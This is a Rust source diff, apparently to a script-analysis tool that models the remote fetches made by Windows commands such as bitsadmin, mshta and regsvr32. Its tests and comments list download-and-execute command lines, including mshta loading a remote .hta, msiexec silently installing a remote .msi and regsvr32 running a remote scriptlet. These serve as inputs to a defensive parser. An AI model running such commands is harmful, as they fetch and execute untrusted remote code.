@@ -2,7 +2,7 @@
 //! "Download").
 
 use super::call::{Call, Orders};
-use super::visit::{Move, Visit};
+use super::visit::{Move, SESSIONS, Visit};
 use crate::script::session::Session;
 use crate::script::transfer::Mode;
 use crate::script::url::{self, Url};
@@ -93,7 +93,7 @@ pub(super) fn bitsadmin(call: &Call<'_>) -> Option<Orders> {
     let uploads = call.arguments.iter().any(|word| word.eq_ignore_ascii_case("/upload"));
     let mut sessions = Vec::new();
     let mut words = call.arguments.iter().peekable();
-    while let Some(word) = words.next() {
+    while let Some(word) = words.next().filter(|_| sessions.len() < SESSIONS) {
         let Some(url) = url::parse(word) else { continue };
         let local = words.next_if(|next| !next.starts_with('/')).map(String::as_str);
         let (directory, name) = url.split_path();
@@ -109,9 +109,9 @@ pub(super) fn bitsadmin(call: &Call<'_>) -> Option<Orders> {
     Orders::of(sessions).map(|orders| Orders { refused: Some(NO_BITS.to_owned()), ..orders })
 }
 
-/// `explorer ftp://…`, `mshta ftp://…`, `regsvr32 /i:ftp://… scrobj.dll`, or an address by itself (`start ftp://…`).
+/// `explorer ftp://…`, `mshta ftp://…`, `regsvr32 /i:ftp://… scrobj.dll`.
 pub(super) fn shell(call: &Call<'_>) -> Option<Orders> {
-    let mut words = std::iter::once(call.written).chain(call.arguments.iter().map(String::as_str));
+    let mut words = call.arguments.iter().map(String::as_str);
     let url = words.find_map(address_in)?;
     let (_, name) = url.split_path();
     if copies(call.program) {
@@ -181,7 +181,7 @@ mod tests {
                     &["ftp h.x:21 get a -> C:\\a", "ftp h.x:21 get b -> C:\\b"],
                 ),
                 ("explorer ftp://ann:pw@192.0.2.76/x", &["ftp ann:pw@192.0.2.76:21"]),
-                ("ftp://ann:pw@192.0.2.76/x", &["ftp ann:pw@192.0.2.76:21"]),
+                ("ftp://ann:pw@192.0.2.76/x", &[]),
                 ("rundll32 url.dll,FileProtocolHandler ftp://u:p@h.x/a", &["ftp u:p@h.x:21"]),
                 ("mshta ftp://u:p@h.x/a.hta", &["ftp u:p@h.x:21 get a.hta -> ?"]),
                 ("msiexec /q /i ftp://u:p@h.x/a.msi", &["ftp u:p@h.x:21 get a.msi -> ?"]),
